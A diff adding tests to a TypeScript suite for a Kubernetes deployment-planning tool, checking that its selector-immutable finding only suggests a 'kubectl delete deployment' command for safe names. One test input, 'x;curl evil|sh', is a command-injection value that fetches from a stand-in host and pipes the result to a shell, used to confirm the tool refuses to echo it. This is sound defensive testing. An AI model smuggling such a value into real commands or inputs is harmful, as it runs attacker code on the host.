@@ -181,6 +181,18 @@ describe('findings', () => {
       }
     });
 
+  for (const [name, advice] of [
+    ['east', /; run first: kubectl --context=CONTEXT -n delegates delete deployment east$/],
+    ['--all', /; delete that one first$/],
+    ['x;curl evil|sh', /; delete that one first$/],
+  ] as const)
+    test(`a selector that changes, of ${name}`, () => {
+      const selector = '  selector:\n    matchLabels: {harness.io/name: delegate}\n';
+      const text = join(deployment({name, selector}), upgrader());
+      const {findings} = plan(text, {image: 'a/x:1', fixSelector: true});
+      assert.match(findings.find(({code}) => code === 'selector-immutable')?.message ?? '', advice);
+    });
+
   test('two Deployments with one selector', () => {
     const selector = '  selector:\n    matchLabels: {harness.io/name: east}\n';
     const text = join(deployment(), deployment({name: 'west', selector}), upgrader());
